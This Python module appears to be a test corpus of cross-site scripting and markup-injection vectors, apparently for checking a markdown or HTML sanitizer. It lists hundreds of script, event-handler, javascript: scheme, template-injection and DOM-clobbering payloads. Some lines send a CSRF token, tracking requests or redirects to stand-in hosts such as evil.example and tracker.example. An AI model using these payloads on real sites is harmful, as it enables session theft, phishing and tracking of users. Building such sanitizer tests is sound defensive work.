"""Texts that want to run in a reader's browser. Of our own writing, after the families everybody knows."""

_SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<script src=//x.example/a.js></script>", "<script src='data:,alert(1)'></script>", "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script>alert(1)", "</script><script>alert(1)</script>", "<script type=module>import '//x'</script>",
    "<\x00script>alert(1)</script>", "<script\x0c>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]  # fmt: skip
_EVENTS = [
    f"<{tag} {event}=alert(1)>"
    for tag, event in (
        ("img src=x", "onerror"), ("img src=x", "OnErRoR"), ("body", "onload"), ("svg", "onload"), ("svg/", "onload"),
        ("video src=x", "onerror"), ("audio src=x", "onerror"), ("details open", "ontoggle"), ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("marquee", "onstart"), ("a href=#", "onclick"),
        ("p", "onmouseover"), ("em", "onpointerenter"), ("code", "onauxclick"), ("td", "onfocusin"), ("blockquote", "onwheel"),
        ("li", "onanimationstart"), ("table", "onscroll"), ("hr", "ontransitionend"), ("strong", "oncopy"), ("pre", "onbeforeinput"),
        ("iframe", "onload"), ("object data=x", "onerror"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"),
        ("dialog open", "onclose"), ("button popovertarget=x", "onclick"), ("div popover", "onbeforetoggle"),
    )
]  # fmt: skip
_QUOTING = [
    "<img src=x onerror='alert(1)'>", '<img src=x onerror="alert(1)">', "<img src=x onerror=`alert(1)`>", "<img/src=x/onerror=alert(1)>",
    '<img src="x" title="</p><script>alert(1)</script>">', "<img src=x\nonerror\n=\nalert(1)>", '<p title="a" title="b" onclick=alert(1)>',
    "<a href='x' title=\"'><script>alert(1)</script>\">x</a>", "<img \x01 src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'", "${alert(1)}", "{{ 7*7 }}", "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}", "{{ config }}", "#{7*7}", "<%= 7*7 %>",
]  # fmt: skip
_SCHEMES = [
    f"[x]({scheme})"
    for scheme in (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)", "java&#10;script:alert(1)", "java&Tab;script:alert(1)", "\\x01javascript:alert(1)", "%6aavascript:alert(1)",
        "javascript%3Aalert(1)", "<javascript:alert(1)>", "<java\tscript:alert(1)>", "< javascript:alert(1)>", "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/onload=alert(1)>",
        "blob:http://x/1", "file:///etc/passwd", "ftp://x.example/", "tel:+361", "sms:1", "ws://x", "view-source:http://x", "filesystem:http://x",
        "feed:javascript:alert(1)", "jar:http://x!/", "about:blank", "intent://x#Intent;end", "steam://run/1", "ms-word:ofe|u|http://x",
        "//evil.example", "///evil.example", "\\\\evil.example", "/\\evil.example", "/threads/1", "threads", "?a=b", "#x", "..", "",
        "http:alert(1)", "https:evil.example", "mailto:a@b.c?bcc=d@e.f", "ｊavascript:alert(1)", "javaſcript:alert(1)", "javascript\u2028:alert(1)",
    )
]  # fmt: skip
_LINKS = [
    "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<data:text/html,x>", "<vbscript:x>", "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='java\0script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>", "<a href=//evil.example>x</a>", "<a href='\\\\evil.example'>x</a>",
    '<a href="http://a" target="_blank" rel="opener">x</a>', '<a href="http://a" ping="//evil.example">x</a>', '<a href="http://a" download>x</a>',
    "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: data:text/html,a", '[a](http://x.example "onmouseover=alert(1)")',
    '[a](http://x.example "\\"><script>alert(1)</script>")', "[a](http://x.example/\"onmouseover=alert(1)//)", "[<img src=x onerror=alert(1)>](http://x)",
    "http://x.example/<script>alert(1)</script>", 'http://x.example/"onclick=alert(1)', "http://x.example/'onclick='alert(1)", "javascript:alert(1)",
    "www.x.example/\"><svg/onload=alert(1)>", "a@x.example\"onclick=alert(1)", "[a](<http://x\n onclick=alert(1)>)",
]  # fmt: skip
_PICTURES = [
    "![x](http://tracker.example/p.png)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", '![x](x" onerror="alert(1))',
    "![x][y]\n\n[y]: http://tracker.example/p.png", "<img src=//tracker.example/p.png>", "<img srcset='//tracker.example/p.png 1x'>",
    "<picture><source srcset=//tracker.example/p></picture>", "<video poster=//tracker.example/p>", "<input type=image src=//tracker.example/p>",
    "<p style='background:url(//tracker.example/p)'>", "<table background=//tracker.example/p>", "<td background=javascript:alert(1)>",
]  # fmt: skip
_STRUCTURES = [
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<frame src=x>", "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>", "<applet code=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=import href=//evil.example>", "<form action=//evil.example><input name=csrf_token></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>", "<style>@import '//evil.example'</style>", "<style>p{position:fixed}</style>", "<template><script>alert(1)</script></template>",
    "<slot name=x>", "<portal src=//x>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,x'>", "<svg><foreignObject><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<math><mi//xlink:href='javascript:alert(1)'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>", "<textarea></textarea><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<noembed><img src=x onerror=alert(1)></noembed>",
    "<!--><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;", "<?php echo 1 ?>",
    "<custom-element onclick=alert(1)>x</custom-element>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "</p></div></main></body><h1>Sign in again</h1>",
]  # fmt: skip
_CLOBBERING = [
    "<a id=csrf_token href=http://x>x</a>", "<a name=body>x</a>", "<form id=x><input name=action>", "<p id=main>x</p>", "<p class='flash flash-error'>Your session ended</p>",
    "<p style='position:fixed;inset:0'>x</p>", "<ol start=javascript:1><li>x", "<ol type=x reversed><li value=9>x", "<p dir=auto contenteditable>x", "<p lang=en hidden inert>x",
    "<p data-composer data-preview-url=//evil>x", "<li is=x-y>x</li>", "<td colspan=9999 rowspan=9999>x", "<p accesskey=x tabindex=1>x</p>", "<p slot=x part=y>x</p>",
    "<a href=http://x itemprop=url about=x>x</a>", "<em xml:base=javascript:alert(1)>x</em>", "<code autofocus nonce=x>x</code>",
]  # fmt: skip
_CODE = [
    "```<script>\nalert(1)\n```", '```x" onclick="alert(1)\ncode\n```', "```\n</code></pre><script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>", "~~~ </style><script>\nx\n~~~", "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|", "# <svg onload=alert(1)>",
    "- <details open ontoggle=alert(1)>", "> <iframe src=javascript:alert(1)>", "*<b onmouseover=alert(1)>*", "[^1]: <script>alert(1)</script>\n\nx[^1]", "&#x110000;&#0;&#xD800;<script>",
]  # fmt: skip

VECTORS = [*_SCRIPTS, *_EVENTS, *_QUOTING, *_SCHEMES, *_LINKS, *_PICTURES, *_STRUCTURES, *_CLOBBERING, *_CODE]
